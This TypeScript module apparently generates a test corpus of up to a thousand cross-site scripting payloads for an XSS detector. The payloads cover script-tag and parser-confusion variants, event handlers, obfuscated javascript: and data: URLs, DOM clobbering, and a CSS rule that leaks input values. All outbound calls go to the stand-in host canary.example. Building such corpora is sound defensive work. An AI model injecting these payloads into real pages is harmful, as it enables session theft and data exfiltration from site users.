// A thousand texts that would run, ask or change something if a page took them for more than text: the classics, put together from
// their parts. What they would do is noticed by xss-detector.ts; here nothing is judged.

/** Where everything goes that gets out; nobody is there. */
export const canaryHost = 'canary.example'

/** What a script would do. None has a space, a quote or an angle bracket, so that it stands in any attribute. */
const scriptEffects: readonly string[] = [
  'alert(1)',
  'console.log(/canary/)',
  'window.canary=1',
  `fetch(\`//${canaryHost}/fetch\`)`,
  'document.title=`canary`',
  `new/**/Image().src=\`//${canaryHost}/image\``,
  'top.canary=2',
  'confirm`canary`',
]

const host = `//${canaryHost}`
type Vector = (deed: string) => string

const scripts: readonly Vector[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt >${deed}</sCrIpT >`,
  (deed) => `<script/x>${deed}</script\t\n>`,
  (deed) => `<script\x0c>${deed}</script>`,
  () => `<script src=${host}/s.js></script>`,
  () => `<script src="data:text/javascript,window.canary=3"></script>`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `<<script>${deed}//<</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<img """><script>${deed}</script>">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  () => `<svg><script href=${host}/s.js /></svg>`,
  (deed) => `<math><script>${deed}</script></math>`,
  (deed) => `</textarea></title></style></xmp><script>${deed}</script>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<div><template shadowrootmode=open><script>${deed}</script></template></div>`,
  (deed) => `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${deed}</x:script></html>`,
  (deed) => `<![CDATA[<script>${deed}</script>]]>`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<!-- --!><script>${deed}</script>-->`,
  (deed) => `<?xml version="1.0"?><script>${deed}</script>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `";${deed};//`,
  (deed) => `'-${deed}-'`,
  (deed) => `"><img src=x onerror=${deed}>`,
  (deed) => `'><img src=x onerror=${deed}>`,
  (deed) => `" autofocus onfocus=${deed} x="`,
  (deed) => `</script><script>${deed}</script>`,
]

/** What one reader takes for text and another, reading what the first wrote, for elements. */
const mutations: readonly Vector[] = [
  (deed) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  (deed) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
  (deed) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${deed}'>">`,
  (deed) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  (deed) => `<svg></p><style><a id="</style><img src=1 onerror=${deed}>">`,
  (deed) => `<svg><style><img src=x onerror=${deed}></style></svg>`,
  (deed) => `<svg><desc><style><a title="</style><img src=x onerror=${deed}>"></desc></svg>`,
  (deed) => `<svg><title><style><img src=x onerror=${deed}></style></title></svg>`,
  (deed) => `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>"></iframe></foreignObject></svg>`,
  (deed) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${deed}></style></annotation-xml></math>`,
  (deed) => `<math><annotation-xml encoding="text/html"><script>${deed}</script></annotation-xml></math>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<noembed><img title="</noembed><img src=x onerror=${deed}>"></noembed>`,
  (deed) => `<noframes><img title="</noframes><img src=x onerror=${deed}>"></noframes>`,
  (deed) => `<textarea><img title="</textarea><img src=x onerror=${deed}>"></textarea>`,
  (deed) => `<title><a title="</title><img src=x onerror=${deed}>"></title>`,
  (deed) => `<xmp><img title="</xmp><img src=x onerror=${deed}>"></xmp>`,
  (deed) => `<style><a title="</style><img src=x onerror=${deed}>"></style>`,
  (deed) => `<iframe><img title="</iframe><img src=x onerror=${deed}>"></iframe>`,
  (deed) => `<select><style></select><img src=x onerror=${deed}></style></select>`,
  (deed) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${deed}>">`,
  (deed) => `<table><caption><style></caption><img src=x onerror=${deed}></style></table>`,
  (deed) => `<p><svg><p><style><a id="</style><img src=1 onerror=${deed}>">`,
  (deed) => `<a><table><td></a></table><a></a><style><!--</style><img src onerror=${deed}>-->`,
  (deed) => `<listing>&lt;img src=x onerror=${deed}&gt;</listing>`,
  (deed) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${deed}&gt;">x</a>`,
  (deed) => `<a title="\`><img src=x onerror=${deed}>">x</a>`,
  (deed) => `${'<div>'.repeat(520)}<svg><style><img src=x onerror=${deed}></style></svg>`,
  (deed) => `${'<form><h1>'.repeat(60)}<math><mi><style><img src=x onerror=${deed}></style></math>`,
  (deed) => `<plaintext><img src=x onerror=${deed}>`,
]

/** Elements that load, ask or restyle without a script. */
const loadingMarkup: readonly string[] = [
  `<img src=${host}/img>`,
  `<img srcset="${host}/srcset 1x">`,
  `<picture><source srcset=${host}/source><img></picture>`,
  `<image src=${host}/image>`,
  `<video src=${host}/video autoplay></video>`,
  `<video poster=${host}/poster></video>`,
  `<audio src=${host}/audio autoplay></audio>`,
  `<video><track default src=${host}/track></video>`,
  `<iframe src=${host}/frame></iframe>`,
  `<frameset><frame src=${host}/frame></frameset>`,
  `<object data=${host}/object></object>`,
  `<embed src=${host}/embed>`,
  `<applet archive=${host}/applet></applet>`,
  `<input type=image src=${host}/input>`,
  `<body background=${host}/body>`,
  `<table background=${host}/table><td background=${host}/td>x</table>`,
  `<link rel=stylesheet href=${host}/style.css>`,
  `<link rel=prefetch href=${host}/prefetch>`,
  `<link rel=preload as=image href=${host}/preload>`,
  `<link rel=modulepreload href=${host}/module.js>`,
  `<link rel=icon href=${host}/icon>`,
  `<link rel=import href=${host}/import>`,
  `<meta http-equiv=refresh content="0;url=${host}/refresh">`,
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  `<base href=${host}/base/>`,
  `<base target=canary>`,
  `<svg><image href=${host}/svgimage /></svg>`,
  `<svg><use href=${host}/use.svg#x /></svg>`,
  `<svg><filter id=f><feImage href=${host}/fe /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  `<svg style="background:url(${host}/svgstyle)"></svg>`,
  `<style>@import "${host}/import.css";</style>`,
  `<style>*{background:url(${host}/all)!important}</style>`,
  `<style>input[value^="a"]{background:url(${host}/leak)}</style>`,
  `<style>@font-face{font-family:x;src:url(${host}/font)}*{font-family:x}</style>`,
  `<div style="background:url(${host}/background)">x</div>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#000">x</div>`,
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(data:text/xml,x)">x</div>',
  `<xss style="behavior:url(${host}/x.htc)">x</xss>`,
  `<ul style="list-style-image:url(${host}/list)"><li>x</ul>`,
  `<iframe srcdoc="<script>parent.canary=4</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=${host}/srcdoc&gt;"></iframe>`,
  `<object type=text/html data="data:text/html,<script>parent.canary=5</script>"></object>`,
  `<portal src=${host}/portal></portal>`,
  `<fencedframe src=${host}/fenced></fencedframe>`,
  `<form id=canary action=${host}/form><input type=submit autofocus></form>`,
  `<button form=canary formaction=${host}/button>x</button>`,
  `<isindex action=${host}/isindex type=image>`,
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x:>x</a>',
  '<form name=body><input name=firstChild></form>',
  '<img name=getElementById><img name=querySelector>',
  '<a id=location href=x:>x</a><a id=defaultView>x</a>',
  '<form id=attributes><input name=attributes><input name=parentNode></form>',
  '<div id=root><div id=content>x</div></div>',
  '<x-canary is=script>x</x-canary>',
  '<div data-react-aria-top-layer=true popover=auto>x</div>',
]

const carriers: readonly string[] = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'style',
  'link rel=stylesheet href=x',
  'select autofocus',
  'a href=# tabindex=1 autofocus',
  'p contenteditable autofocus',
  'x tabindex=1 autofocus id=x',
  'form',
  'div popover',
  'math',
  'table',
  'svg/',
]

const events: readonly string[] = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onbegin',
  'onloadstart',
  'onanimationstart',
  'onmouseover',
  'onpointerenter',
  'onclick',
  'onbeforetoggle',
  'onwheel',
  'onscrollend',
  'ONERROR',
  'x/onerror',
  '\tonerror\t',
  '"onload',
]

const addresses: readonly Vector[] = [
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}`,
  (deed) => ` javascript:${deed}`,
  (deed) => `\x01javascript:${deed}`,
  (deed) => `java\nscript:${deed}`,
  (deed) => `java\tscript:${deed}`,
  (deed) => `java&#10;script:${deed}`,
  (deed) => `java&Tab;script:${deed}`,
  (deed) => `javascript&colon;${deed}`,
  (deed) => `&#106;avascript:${deed}`,
  (deed) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${deed}`,
  (deed) => `javascript://%0a${deed}`,
  (deed) => `javascript:/*--></title></style></script>*/${deed}`,
  (deed) => `vbscript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `data:text/html;base64,${Buffer.from(`<script>${deed}</script>`).toString('base64')}`,
  (deed) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${deed}'/>`,
  (deed) => `blob:${deed}`,
  (deed) => `view-source:javascript:${deed}`,
  (deed) => `jar:javascript:${deed}!/`,
]

const linkMarkup: readonly Vector[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}' target=_self>x</a>`,
  (url) => `<a href="https://example.com" ping="${url}">x</a>`,
  (url) => `<map><area shape=default href="${url}"></map>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<form><input type=image formaction="${url}"></form>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<video poster="${url}"></video>`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text x=9 y=9>x</text></a></svg>`,
  (url) => `<svg><use href="${url}"/></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}"/><text x=9 y=9>x</text></a></svg>`,
  (url) => `<svg><set attributeName=onload to="${url}"/></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<blockquote cite="${url}">x</blockquote>`,
  (url) => `<table background="${url}"><td>x</table>`,
]

function buildPayloads(): string[] {
  let turn = 0
  const deed = (): string => scriptEffects[turn++ % scriptEffects.length] ?? ''
  const few = [...mutations, ...scripts].flatMap((vector) => [vector(deed()), vector(deed())])
  const onEvents = carriers.flatMap((carrier) => events.map((event) => `<${carrier} ${event}=${deed()}>`))
  const atAddresses = linkMarkup.flatMap((place) => addresses.map((address) => place(address(deed()))))
  const many = onEvents
    .flatMap((one, at) => [one, ...atAddresses.slice(at, at + 1)])
    .concat(atAddresses.slice(onEvents.length))
  return [...few, ...loadingMarkup, ...many]
}

/** All different, and each of its kind among them. */
export const payloads: readonly string[] = [...new Set(buildPayloads())].slice(0, 1000)

/** Those that fit into a line of text. */
export const shortPayloads: readonly string[] = payloads.filter(
  (text) => !/[\x00-\x1f]/.test(text) && text.length < 120,
)

/** Before each, to be found on the screen that shows it. */
export const payloadMarker = (at: number): string => `k${at}k`

const closing =
  '</textarea></title></style></script></xmp></noscript></noembed></noframes></iframe></select>--></svg></math>'

/** Many in one text, each able to begin anew whatever the one before opened; those that nest deep come last. */
export const joinPayloads = (some: readonly string[]): string =>
  some
    .filter((text) => !text.startsWith('<plaintext'))
    .sort((one, other) => Number(one.length > 1000) - Number(other.length > 1000))
    .map((text, at) => `${payloadMarker(at)}${text}${closing}`)
    .join('\n')
